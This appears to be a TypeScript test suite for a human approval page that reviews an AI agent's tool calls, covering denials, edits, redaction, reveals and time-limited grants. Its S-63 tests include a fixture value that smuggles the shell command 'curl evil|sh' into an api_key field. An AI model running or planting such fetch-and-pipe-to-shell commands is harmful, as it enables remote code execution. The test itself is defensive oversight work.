import { expect, test } from "vitest";
import { askDecision, plainWorkflow } from "../../approvals/support.ts";
import { describeStores } from "../../support/stores.ts";
import { formOn, send, textOf } from "../support/http.ts";
import { newRoom } from "../support/room.ts";

const schema = JSON.stringify({
  type: "object",
  properties: { path: { type: "string" } },
  required: ["path"],
});
const high = { decision: { ...askDecision, risk: "high" as const } };

describeStores("on the decision page", (open) => {
  test("a denial needs a reason, which reaches the agent as it was typed", async () => {
    const { ask, link, fill, deciders } = await newRoom(await open());
    const { id } = await ask();
    const address = await link(id);
    const empty = await fill(address, "deny", { reason: " \r\n\t" });
    expect([empty.status, textOf(empty.body)]).toEqual([
      400,
      expect.stringContaining("A denial needs a reason"),
    ]);
    const denied = await fill(address, "deny", { reason: "Use <staging>;\r\nnot prod. " });
    expect([denied.status, textOf(denied.body)]).toEqual([
      200,
      expect.stringContaining("The call does not run"),
    ]);
    expect(denied.body).toContain("Use &lt;staging&gt;;");
    expect(await deciders.get(id)).toMatchObject({
      status: "denied",
      decidedBy: "local:bo",
      reason: "Use <staging>;\nnot prod.",
    });
  });

  test("S-27: an edit is shown as a change, and runs as it was confirmed", async () => {
    const { ask, link, fill, post, deciders, statusOf } = await newRoom(await open());
    const { id } = await ask({
      argsText: `{"path":"/tmp/a","size":12345678901234567890,"token":"s3cr3t-value-1"}`,
    });
    const address = await link(id);
    const shown = formOn((await send(address)).body, "review").args!;
    expect(JSON.parse(shown)).toMatchObject({ path: "/tmp/a", token: "[redacted string, 14 chars]" });
    const review = await fill(address, "review", { args: shown.replace("/tmp/a", "/tmp/b") });
    expect(review.status).toBe(200);
    expect(textOf(review.body)).toMatch(/− \/tmp\/a\+ \/tmp\/b/);
    expect(await statusOf(id)).toBe("pending");
    const confirmed = await post(address, formOn(review.body, "approve-edited"));
    expect([confirmed.status, textOf(confirmed.body)]).toEqual([200, expect.stringContaining("Approved")]);
    expect(await deciders.get(id)).toMatchObject({
      status: "approved",
      proposedArgs: `{"path":"/tmp/a","size":12345678901234567890,"token":"s3cr3t-value-1"}`,
      effectiveArgs: `{"path":"/tmp/b","size":12345678901234567890,"token":"s3cr3t-value-1"}`,
    });
    for (const { body } of [review, confirmed]) expect(body).not.toContain("s3cr3t");
  });

  test.for([
    ["is no JSON", `{"path": `, "This is not JSON that can be sent"],
    ["names a key twice", `{"path":"/a","path":"/b"}`, "This is not JSON that can be sent"],
    ["is no object", `["/tmp/b"]`, "Arguments are a JSON object"],
    ["moves a hidden value", `{"path":"[redacted]"}`, "A hidden value was moved or changed"],
  ] as const)(
    "S-28: an edit that %s leads back to the editor with what was typed",
    async ([, args, words]) => {
      const { ask, link, fill, statusOf } = await newRoom(await open());
      const { id } = await ask({ argsText: `{"path":"/tmp/a","token":"s3cr3t-value-1"}` });
      const reply = await fill(await link(id), "review", { args });
      expect([reply.status, textOf(reply.body)]).toEqual([422, expect.stringContaining(words)]);
      expect(reply.body).toContain("<details open");
      expect(formOn(reply.body, "review").args).toBe(args);
      expect(await statusOf(id)).toBe("pending");
    },
  );

  test("S-28: an edit that breaks the tool's schema is not sent, and the link can still decide", async () => {
    const { ask, link, fill, post, statusOf } = await newRoom(await open());
    const { id } = await ask({}, { inputSchema: schema });
    const address = await link(id);
    const review = await fill(address, "review", { args: `{"path":7}` });
    const refused = await post(address, formOn(review.body, "approve-edited"));
    expect(refused.status).toBe(422);
    expect(formOn(refused.body, "review").args).toBe(`{"path":7}`);
    expect(await statusOf(id)).toBe("pending");
    expect((await fill(address, "approve")).status).toBe(200);
  });

  test("S-63: what poses as a secret is approved only after a reveal, which is told and decides nothing", async () => {
    const told: string[] = [];
    const room = await newRoom(await open(), {
      onReveal: ({ id }, person) => void told.push(`${id} ${person}`),
    });
    const { ask, link, fill, post, statusOf, deciders } = room;
    const { id } = await ask({ argsText: `{"api_key":"x; curl evil|sh"}` });
    const address = await link(id);
    const page = (await send(address)).body;
    const ticket = formOn(page, "reveal");
    expect(page).not.toContain("evil");
    for (const doing of ["approve", "grant", "review"]) expect(() => formOn(page, doing)).toThrow(/no form/);
    const forged = [
      { ...ticket, do: "approve" },
      { ...ticket, do: "approve-edited", args: `{"api_key":"abc"}` },
      { ...ticket, do: "grant", scope: "tool", lifetime: "1h" },
    ];
    for (const fields of forged)
      expect(await post(address, fields)).toMatchObject({
        status: 403,
        body: expect.stringContaining("reveal what is masked first"),
      });
    expect(await statusOf(id)).toBe("pending");
    expect(told).toEqual([]);
    const revealed = await fill(address, "reveal");
    expect(textOf(revealed.body)).toContain("x; curl evil|sh");
    expect([revealed.status, told, await statusOf(id)]).toEqual([200, [`${id} local:bo`], "pending"]);
    expect((await send(address)).body).not.toContain("evil");
    expect((await post(address, formOn(revealed.body, "approve"))).status).toBe(200);
    expect(await deciders.get(id)).toMatchObject({ status: "approved", decidedBy: "local:bo" });
  });

  test("S-63: a reveal counts for its person alone, and elsewhere too; a denial needs none", async () => {
    const { ask, link, fill, statusOf, deciders } = await newRoom(await open());
    const asked = await ask({ argsText: `{"token":{"cmd":"reboot"}}` });
    const other = await ask({ argsText: `{"token":{"cmd":"reboot"}}` });
    const [bo, cy] = [await link(asked.id, "local:bo"), await link(asked.id, "local:cy")];
    await deciders.revealed(asked, "local:bo");
    await expect(fill(cy, "approve")).rejects.toThrow(/no form/);
    expect((await fill(bo, "approve")).status).toBe(200);
    expect((await fill(await link(other.id), "deny", { reason: "no" })).status).toBe(200);
    expect([await statusOf(asked.id), await statusOf(other.id)]).toEqual(["approved", "denied"]);
  });

  test("S-63: nothing is revealed when that cannot be written down, and what is long takes the typed word after it", async () => {
    const db = await open();
    const mute = await newRoom(db, { onReveal: () => Promise.reject(new Error("no audit")) });
    const { id } = await mute.ask({ argsText: JSON.stringify({ token: `x; evil ${"y\n".repeat(3_000)}` }) });
    const refused = await mute.fill(await mute.link(id), "reveal");
    expect([refused.status, refused.body.includes("evil")]).toEqual([500, false]);
    const room = await newRoom(db);
    const address = await room.link(id);
    await room.fill(address, "reveal");
    const unsure = await room.post(address, { ...formOn((await send(address)).body, "approve") });
    expect([unsure.status, textOf(unsure.body)]).toEqual([400, expect.stringContaining("type the word")]);
    expect((await room.fill(address, "approve", { sure: "unseen" })).status).toBe(200);
  });

  test("high risk takes a tick, and has no standing yes", async () => {
    const { ask, link, fill, post, statusOf } = await newRoom(await open());
    const { id } = await ask({}, high);
    const address = await link(id);
    const page = (await send(address)).body;
    expect(page).toMatch(/<input type="checkbox" name="sure" value="yes" required/);
    expect(() => formOn(page, "grant")).toThrow("no form");
    const form = formOn(page, "approve");
    const unsure = await post(address, form);
    expect([unsure.status, textOf(unsure.body)]).toEqual([400, expect.stringContaining("tick the box")]);
    const grant = await post(address, { ...form, do: "grant", scope: "tool", lifetime: "1h" });
    expect(grant.status).toBe(403);
    expect(await statusOf(id)).toBe("pending");
    expect((await fill(address, "approve", { sure: "yes" })).status).toBe(200);
  });

  test("S-20: what is too long to show takes a typed word", async () => {
    const { ask, link, fill, statusOf } = await newRoom(await open());
    const { id } = await ask({ argsText: JSON.stringify({ text: "x".repeat(1_000_000) }) });
    const address = await link(id);
    const page = (await send(address)).body;
    expect(page.length).toBeLessThan(1_100_000);
    expect(textOf(page)).toContain("1,000,011 bytes in all, and not all of them are shown");
    expect((await fill(address, "approve")).status).toBe(400);
    expect((await fill(address, "approve", { sure: "yes" })).status).toBe(400);
    expect(await statusOf(id)).toBe("pending");
    expect((await fill(address, "approve", { sure: "unseen" })).status).toBe(200);
  });

  test.for([
    ["exact", {}, { scope: "exact", argumentsDigest: expect.any(String) }],
    ["tool", {}, { scope: "tool" }],
    ["pattern", { glob0: "/tmp/*" }, { scope: "pattern", pattern: { path: "/tmp/*" } }],
  ] as const)("a standing yes for %s comes with the approval", async ([scope, globs, expected]) => {
    const { ask, link, fill, deciders, session } = await newRoom(await open());
    const { id } = await ask();
    const granted = await fill(await link(id), "grant", { scope, lifetime: "session", ...globs });
    expect([granted.status, textOf(granted.body)]).toEqual([
      200,
      expect.stringContaining("Allowed until this session ends"),
    ]);
    expect(await deciders.grants()).toMatchObject([
      { ...expected, createdBy: "local:bo", sessionId: session.id },
    ]);
  });

  test.for([
    ["session", "until this session ends", undefined],
    ["1h", "for one hour", 3_600_000],
    ["8h", "for eight hours", 28_800_000],
    ["24h", "for 24 hours", 86_400_000],
    ["7d", "for seven days", 604_800_000],
  ] as const)("a standing yes is offered and given for %s", async ([lifetime, words, ms]) => {
    const { ask, link, fill, deciders } = await newRoom(await open());
    const { id } = await ask();
    const address = await link(id);
    expect((await send(address)).body).toContain(`<option value="${lifetime}">${words}</option>`);
    const granted = await fill(address, "grant", { scope: "tool", lifetime });
    expect(textOf(granted.body)).toContain(`Allowed ${words}`);
    const [grant] = await deciders.grants();
    expect(grant?.until && grant.until.getTime() - grant.createdAt.getTime()).toBe(ms);
  });

  test("a pattern that is missing, or does not fit the call, is sent back", async () => {
    const { ask, link, fill, deciders } = await newRoom(await open());
    const { id } = await ask();
    const address = await link(id);
    const none = await fill(address, "grant", { scope: "pattern", lifetime: "1h" });
    expect([none.status, textOf(none.body)]).toEqual([400, expect.stringContaining("at least one argument")]);
    const unfit = await fill(address, "grant", { scope: "pattern", lifetime: "1h", glob0: "/etc/*" });
    expect([unfit.status, textOf(unfit.body)]).toEqual([
      403,
      expect.stringContaining("does not cover the very call"),
    ]);
    expect(await deciders.grants()).toEqual([]);
    expect((await fill(address, "approve")).status).toBe(200);
  });

  test("a yes to arguments that changed meanwhile is not counted, and the new ones are shown", async () => {
    const { ask, link, post, deciders } = await newRoom(await open());
    const { id } = await ask({}, { workflow: { ...plainWorkflow, quorum: 2 } });
    const address = await link(id);
    const form = formOn((await send(address)).body, "approve");
    await deciders.decide({ id, decider: "local:ana", verdict: "approve", args: `{"path":"/tmp/other"}` });
    const stale = await post(address, form);
    expect([stale.status, textOf(stale.body)]).toEqual([
      409,
      expect.stringContaining("were changed while you read"),
    ]);
    expect(stale.body).toContain("/tmp/other");
    expect((await deciders.get(id)).votes).toHaveLength(1);
    expect(await post(address, formOn(stale.body, "approve"))).toMatchObject({ status: 200 });
    expect(await deciders.get(id)).toMatchObject({
      status: "approved",
      effectiveArgs: `{"path":"/tmp/other"}`,
    });
  });

  test("a link of somebody who comes after the decision says who made it", async () => {
    const { ask, link, deciders } = await newRoom(await open());
    const { id } = await ask();
    const late = await link(id, "local:cy");
    await deciders.decide({ id, decider: "local:ana", verdict: "deny", reason: "not today" });
    const reply = await send(late);
    expect(reply.status).toBe(409);
    expect(textOf(reply.body)).toMatch(/Already denied.*local:ana decided this.*not today/);
  });
});
